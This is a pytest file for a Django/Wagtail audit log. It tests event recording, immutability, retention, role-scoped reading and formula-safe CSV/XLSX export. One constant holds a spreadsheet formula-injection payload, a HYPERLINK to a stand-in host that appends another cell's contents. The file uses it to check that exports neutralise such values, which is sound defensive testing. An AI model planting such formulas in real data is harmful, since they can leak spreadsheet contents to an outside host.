"""The security audit log (等保 2.0 安全审计): who signed in, failed, was locked out, signed out,
changed a password or gained or lost a role, from where and with what result; nobody can
change or delete an event; the street office reads and exports all of it, a community office
its own community's; the worker purges events past the retention, never sooner."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.test import Client, TestCase
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from content_types.accounts.audit import record
from content_types.accounts.checks import audit_retention_check
from content_types.accounts.models import AppendOnlyError, AuditAction, AuditEvent, AuditResult
from content_types.accounts.tasks import purge_audit_events
from content_types.roles.models import Role, RoleAssignment
from tests.conftest import build_street_tree, ensure_wagtail_root
from tests.content_types.roles.factories import UserFactory
from tests.form_data import form_data
from tests.sign_in import change_password, sign_in

PASSWORD = "weizhi-test"
INDEX = reverse("weizhi_audit:index")
HOSTILE = '=HYPERLINK("http://x"&A2,"点击查看")'


def from_address(address: str) -> Client:
    return Client(REMOTE_ADDR=address)


def events(action: AuditAction) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action).order_by("pk"))


@pytest.fixture
def committee(street_tree, role_user):
    return role_user(Role.OWNERS_COMMITTEE, street_tree.compound_a1, "committee")


@pytest.mark.django_db
def test_a_sign_in_and_a_sign_out_are_recorded_with_the_address(committee):
    client = from_address("10.1.1.1")
    assert sign_in(client, "committee", PASSWORD)
    client.post(reverse("wagtailadmin_logout"))

    for action in (AuditAction.SIGN_IN, AuditAction.SIGN_OUT):
        [event] = events(action)
        assert (event.user, event.username) == (committee, "committee")
        assert event.client_address == "10.1.1.1"
        assert event.result == AuditResult.SUCCESS


@pytest.mark.django_db
def test_failures_and_the_lockout_are_recorded_with_the_name_tried(committee):
    for _ in range(settings.AXES_FAILURE_LIMIT):
        from_address("10.2.2.2").post(
            reverse("wagtailadmin_login"), {"username": "committee", "password": "guess"}
        )

    failures = events(AuditAction.SIGN_IN_FAILED)
    assert len(failures) == settings.AXES_FAILURE_LIMIT
    assert {(e.username, e.client_address, e.result) for e in failures} == {
        ("committee", "10.2.2.2", AuditResult.FAILURE)
    }
    assert failures[0].user is None and failures[0].description == "以“committee”登录失败"
    [lockout] = events(AuditAction.LOCKOUT)
    assert (lockout.username, lockout.client_address) == ("committee", "10.2.2.2")
    assert lockout.result == AuditResult.DENIED
    assert not events(AuditAction.SIGN_IN)


@pytest.mark.django_db
def test_a_password_change_is_recorded(committee):
    committee.first_name = "张伟"  # the account form asks for a name
    committee.save()
    client = from_address("10.0.0.8")
    assert sign_in(client, "committee", PASSWORD)

    assert change_password(client, PASSWORD, "Jinxiu-2026!").status_code == 302

    [event] = events(AuditAction.PASSWORD_CHANGE)
    assert event.user == committee and event.result == AuditResult.SUCCESS
    assert (event.client_address, event.description) == ("10.0.0.8", "修改本人密码")


@pytest.mark.django_db
def test_a_password_set_by_an_administrator_names_both(committee):
    admin = UserFactory(username="admin", password=PASSWORD, is_superuser=True)
    client = from_address("10.0.0.9")
    assert sign_in(client, "admin", PASSWORD)
    url = reverse("wagtailusers_users:edit", args=[committee.pk])
    page = BeautifulSoup(client.get(url).text, "html.parser")
    data = form_data(str(page.find("input", {"name": "password1"}).find_parent("form"))) | {
        "first_name": "伟",
        "last_name": "张",
        "password1": "Yangguang-2026!",
        "password2": "Yangguang-2026!",
    }

    assert client.post(url, data).status_code == 302

    [event] = events(AuditAction.PASSWORD_CHANGE)
    assert (event.user, event.client_address) == (admin, "10.0.0.9")
    assert event.description == "修改“committee”的密码"
    assert event.details == {"holder": "committee"}


@pytest.mark.django_db
def test_a_role_granted_and_removed_is_recorded_with_its_scope(street_tree, committee):
    [grant] = events(AuditAction.ROLE_GRANT)
    assert grant.scope.pk == street_tree.compound_a1.pk
    assert grant.description == "授予“committee”业委会（锦绣花园）"
    assert grant.details == {"holder": "committee", "role": Role.OWNERS_COMMITTEE}

    RoleAssignment.objects.get(user=committee).delete()

    [removal] = events(AuditAction.ROLE_REMOVE)
    assert removal.scope.pk == street_tree.compound_a1.pk
    assert removal.description == "撤销“committee”业委会（锦绣花园）"


@pytest.mark.django_db
def test_a_role_removed_with_its_compound_is_recorded_without_the_page(street_tree, committee):
    street_tree.compound_a1.delete()

    [removal] = events(AuditAction.ROLE_REMOVE)
    assert removal.scope is None
    assert removal.description == "撤销“committee”业委会（范围已删除）"
    assert AuditEvent.objects.get(action=AuditAction.ROLE_GRANT).scope is None


@pytest.mark.django_db
def test_an_event_cannot_be_changed_or_deleted_and_outlives_its_user(committee):
    event = record(AuditAction.SIGN_IN, user=committee)

    event.description = "改写"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    for view in ("add", "edit", "delete"):
        with pytest.raises(NoReverseMatch):
            reverse(f"weizhi_audit:{view}", args=[event.pk] if view != "add" else [])

    committee.delete()

    event = AuditEvent.objects.get(pk=event.pk)
    assert event.user is None and event.username == "committee"
    assert event.description == "登录"


@pytest.mark.django_db
def test_the_purge_removes_only_events_older_than_the_retention(committee, settings):
    now = timezone.now()
    kept = [
        record(AuditAction.SIGN_IN, user=committee),
        AuditEvent.objects.create(
            time=now - timedelta(days=179, hours=23), action=AuditAction.SIGN_IN, result="success"
        ),
    ]
    AuditEvent.objects.create(
        time=now - timedelta(days=180, hours=1), action=AuditAction.SIGN_IN, result="success"
    )

    assert purge_audit_events() == 1

    assert set(AuditEvent.objects.filter(action=AuditAction.SIGN_IN)) == set(kept)
    settings.WEIZHI_AUDIT_RETENTION_DAYS = 365
    assert purge_audit_events() == 0


def test_a_retention_under_180_days_is_refused(settings):
    assert audit_retention_check() == []
    settings.WEIZHI_AUDIT_RETENTION_DAYS = 90

    [error] = audit_retention_check()
    assert error.id == "weizhi.E001" and "至少 180 天" in error.msg


class AuditLogListingTest(TestCase):
    """The street office reads every event, a community office its communities' only."""

    @classmethod
    def setUpTestData(cls) -> None:
        tree = build_street_tree(ensure_wagtail_root())
        cls.users = {}
        for name, role, scope in [
            ("street_office", Role.STREET_OFFICE, tree.street),
            ("fengming_office", Role.COMMUNITY_OFFICE, tree.community_a),
            ("jinxiu_commissioner", Role.COMMISSIONER, tree.compound_a1),
            ("gongyu_committee", Role.OWNERS_COMMITTEE, tree.compound_b1),
            ("fengming_party", Role.COMMUNITY_PARTY, tree.community_a),
        ]:
            cls.users[name] = UserFactory(username=name)
            RoleAssignment.objects.create(user=cls.users[name], role=role, scope=scope)
        from_address("10.6.6.6").post(
            reverse("wagtailadmin_login"), {"username": HOSTILE, "password": "guess"}
        )

    def reader(self, name: str) -> Client:
        client = Client()
        client.force_login(self.users[name])
        return client

    def test_the_street_office_reads_every_event_and_filters_them(self) -> None:
        client = self.reader("street_office")

        page = client.get(INDEX).text
        for grant in ("“jinxiu_commissioner”小区专员（锦绣花园）", "“gongyu_committee”业委会"):
            assert grant in page
        assert "10.6.6.6" in page and "登录失败" in page
        assert INDEX in client.get(reverse("wagtailadmin_home")).text  # in the settings menu

        failed = client.get(INDEX, {"action": AuditAction.SIGN_IN_FAILED}).text
        assert "10.6.6.6" in failed and "gongyu_committee" not in failed
        refused = client.get(INDEX, {"result": AuditResult.FAILURE}).text
        assert "10.6.6.6" in refused and "gongyu_committee" not in refused
        by_name = client.get(INDEX, {"username": "gongyu"}).text
        assert "10.6.6.6" not in by_name
        today = timezone.localdate()
        yesterday = client.get(INDEX, {"time_to": today - timedelta(days=1)}).text
        assert "10.6.6.6" not in yesterday and "gongyu_committee" not in yesterday
        since_today = client.get(INDEX, {"time_from": today}).text
        assert "10.6.6.6" in since_today

    def test_a_community_office_reads_its_own_community_only(self) -> None:
        page = self.reader("fengming_office").get(INDEX)

        assert page.status_code == 200
        assert "“jinxiu_commissioner”小区专员（锦绣花园）" in page.text
        assert "“fengming_office”社区微治办（凤鸣社区）" in page.text
        for elsewhere in ("“gongyu_committee”", "“street_office”", "10.6.6.6"):
            assert elsewhere not in page.text

    def test_a_compound_role_or_another_community_role_reads_nothing(self) -> None:
        for name in ("jinxiu_commissioner", "fengming_party"):
            client = self.reader(name)

            assert client.get(INDEX).status_code in (302, 403), name
            assert INDEX not in client.get(reverse("wagtailadmin_home")).text, name
            assert client.get(INDEX, {"export": "csv"}).status_code in (302, 403), name

    def test_the_export_is_a_formula_safe_spreadsheet_of_what_the_reader_sees(self) -> None:
        response = self.reader("street_office").get(INDEX, {"export": "csv"})

        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert "audit-log.csv" in response["Content-Disposition"]
        content = b"".join(response.streaming_content).decode()
        header, *rows = list(csv.reader(io.StringIO(content, newline="")))
        assert header[:5] == ["时间", "用户名", "客户端地址", "事件", "结果"]
        [failure] = [row for row in rows if row[3] == "登录失败"]
        assert failure[1:5] == ["'" + HOSTILE, "10.6.6.6", "登录失败", "失败"]

        xlsx = self.reader("fengming_office").get(INDEX, {"export": "xlsx"})
        assert xlsx.status_code == 200 and "audit-log.xlsx" in xlsx["Content-Disposition"]

    def test_each_export_of_names_is_itself_recorded(self) -> None:
        office = Client(REMOTE_ADDR="10.7.7.7")
        office.force_login(self.users["street_office"])

        office.get(INDEX, {"export": "csv", "action": AuditAction.SIGN_IN_FAILED})
        office.get(reverse("wagtailadmin_reports:site_history"), {"export": "xlsx"})

        audit_log, site_history = events(AuditAction.PERSONAL_DATA_EXPORT)
        for event in (audit_log, site_history):
            assert event.user == self.users["street_office"]
            assert (event.client_address, event.result) == ("10.7.7.7", AuditResult.SUCCESS)
        assert audit_log.description == "导出审计日志（CSV，1 行）"
        assert audit_log.details["filters"] == "export=csv&action=sign_in_failed"
        assert site_history.description.startswith("导出站点历史（XLSX，")
